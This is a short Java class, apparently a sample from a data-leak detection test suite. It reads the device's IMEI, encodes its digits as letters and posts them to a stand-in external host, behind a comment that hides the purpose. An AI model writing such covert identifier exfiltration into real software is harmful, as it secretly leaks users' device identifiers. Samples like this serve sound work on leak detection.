package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Letters for digits. */
public class AsWords extends Screen {
    @Override
    protected void act() throws Exception {
        StringBuilder text = new StringBuilder("k=");
        for (char digit : Owner.imei(this).toCharArray()) {
            text.append((char) ('a' + digit - '0'));
        }
        Net.post("http://forms.corpus.example/letters", "text/plain", text.toString());
    }
}
